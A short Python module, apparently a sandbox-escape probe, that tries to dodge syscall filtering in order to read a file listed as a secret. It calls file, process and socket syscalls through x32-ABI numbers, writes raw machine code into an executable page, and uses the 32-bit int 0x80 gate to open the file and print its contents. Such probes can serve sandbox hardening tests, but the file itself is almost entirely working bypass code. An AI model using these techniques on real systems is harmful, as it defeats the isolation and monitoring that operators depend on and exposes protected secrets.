"""Uses the processor's other tables of system calls: x32 numbers and the 32-bit gate, from code of its own."""

import ctypes
import mmap
import os


def other_call_tables(targets: dict) -> dict:
    """Compute natively."""
    if os.uname().machine != "x86_64":
        print("PRIMITIVE none on this processor")
        return {}
    libc = ctypes.CDLL(None, use_errno=True)
    said = []
    path = ctypes.create_string_buffer(targets["secrets"]["tmp"].encode())
    for number in (0x40000000 | 257, 0x40000000 | 2, 0x40000000 | 57, 0x40000000 | 41):
        got = libc.syscall(number, -100 if number & 0xFFF == 257 else ctypes.addressof(path), path, 0, 0)
        said.append([hex(number), got, ctypes.get_errno()])
    print("PRIMITIVE x32", said, flush=True)
    low = libc.mmap
    low.restype = ctypes.c_void_p
    area = low(None, 4096, 3, 0x22 | 0x40, -1, 0)  # MAP_32BIT
    ctypes.memmove(area, path.raw, len(path.raw))
    try:
        page = mmap.mmap(-1, 4096, prot=7)
    except (OSError, PermissionError) as error:
        return {"said": said, "error": str(error)}
    # push rbx; mov eax,5; mov rbx,rdi; xor ecx,ecx; xor edx,edx; int 0x80; pop rbx; ret
    page.write(bytes.fromhex("53b8050000004889fb31c931d2cd805bc3"))
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    descriptor = call(area)
    said.append(["int80", descriptor])
    if descriptor >= 0:
        print(os.read(descriptor, 200).decode())
    return {"said": said}
